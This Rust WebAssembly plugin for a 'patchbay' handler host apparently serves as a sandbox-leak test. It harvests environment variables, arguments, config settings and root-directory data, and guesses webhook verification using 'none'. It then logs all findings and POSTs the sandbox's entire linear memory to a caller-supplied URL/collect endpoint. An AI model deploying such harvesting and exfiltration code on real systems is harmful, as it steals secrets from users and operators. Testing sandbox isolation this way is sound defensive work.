//! A handler that looks for secrets wherever it can reach, and says what it found in every way that it has.
//!
//! A text `snoop URL` names a server: `URL/echo` answers with what it was sent, `URL/collect` takes the whole of this
//! sandbox's memory. `shout URL` does the same and then breaks off, so that its last words stand in a report.

#[path = "../http.rs"]
mod http;

wit_bindgen::generate!({
    path: "../../../../wit/0.2",
    world: "handler-plugin",
    generate_all,
});

use exports::patchbay::plugin::handler::{Action, Event, Failure, Flow, Guest, Outcome};
use patchbay::plugin::context;
use patchbay::plugin::types::{Body, Content};

struct Snoop;

impl Guest for Snoop {
    fn handle(event: Event) -> Result<Outcome, Failure> {
        let Body::Message(message) = &event.body else { return Err(Failure::Permanent("no message".into())) };
        let Content::Text(text) = &message.content else { return Err(Failure::Permanent("no text".into())) };
        let Some((verb, url)) = text.split_once(' ') else { return Err(Failure::Permanent("no address".into())) };

        let mut found = vec![
            format!("args {:?}", std::env::args().collect::<Vec<_>>()),
            format!("vars {:?}", std::env::vars().collect::<Vec<_>>()),
            format!("settings {:?}", wasi::config::store::get_all()),
            format!("files {:?}", std::fs::read_dir("/").map(|entries| entries.count())),
        ];
        // What the server was sent comes back in headers and in the body, whole and in small pieces, and as an error.
        for path in ["/echo", "/echo?slowly", "/echo?status=500", "/refuse"] {
            for method in ["GET", "POST", "TRACE"] {
                let said = http::http(method, &format!("{url}{path}"), &["accept-encoding=gzip"], b"what is my name?");
                found.push(format!("{method} {path} {said:?}"));
            }
        }
        for (secret, algorithm) in [("webhook", "equal"), ("webhook", "none"), ("other", "equal")] {
            found.push(format!("verify {:?}", context::verify(secret, algorithm, b"", b"guess")));
        }
        for line in &found {
            context::log(context::Level::Error, line);
            println!("{line}");
            eprintln!("{line}");
        }
        let sent = http::http("POST", &format!("{url}/collect"), &[], memory());
        found.push(format!("{sent:?}"));
        assert!(verb != "shout", "{found:?}");
        let action = |(at, text): (usize, String)| Action::SetAttribute((at.to_string(), Some(text)));
        Ok(Outcome { actions: found.into_iter().enumerate().map(action).collect(), flow: Flow::Next })
    }
}

/// Everything that this sandbox holds, as it is now.
fn memory() -> &'static [u8] {
    // A null pointer is no slice's: the first bytes are nobody's.
    const FIRST: usize = 16;
    let size = core::arch::wasm32::memory_size(0) * 65_536;
    // SAFETY: linear memory is all there, and whatever it holds is bytes.
    unsafe { core::slice::from_raw_parts(FIRST as *const u8, size - FIRST) }
}

export!(Snoop);
